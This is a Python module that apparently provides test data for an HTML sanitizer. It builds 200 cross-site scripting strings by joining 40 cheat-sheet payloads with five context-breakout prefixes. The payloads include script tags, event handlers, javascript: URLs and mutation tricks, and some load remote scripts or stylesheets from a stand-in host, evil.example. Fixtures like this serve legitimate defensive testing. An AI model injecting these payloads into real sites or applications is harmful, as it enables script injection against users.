"""200 strings that try to become markup: each payload, after each way out of a place.

The payloads are the usual ones of public cheat sheets: tags, event handlers, URLs with
scripts, oddly written tags, foreign content, encodings, template and comment tricks.
"""

from __future__ import annotations

WAYS_OUT = (
    "",
    '">',
    "'>",
    "</script>",
    "--></style></textarea></title>",
)

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x:x onerror=alert(1)//",
    '<IMG """><script>alert(\'a\')</script>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"' onmouseover=alert(1) x='",
    "{{7*7}}{% raw %}<script>alert(1)</script>{% endraw %}",
    "\u2028<script>alert(1)</script>\u2029\x00<b\x00>&lt;i&gt;&amp;\\u003cb\\u003e",
)

ATTACKS = tuple(way + payload for way in WAYS_OUT for payload in PAYLOADS)
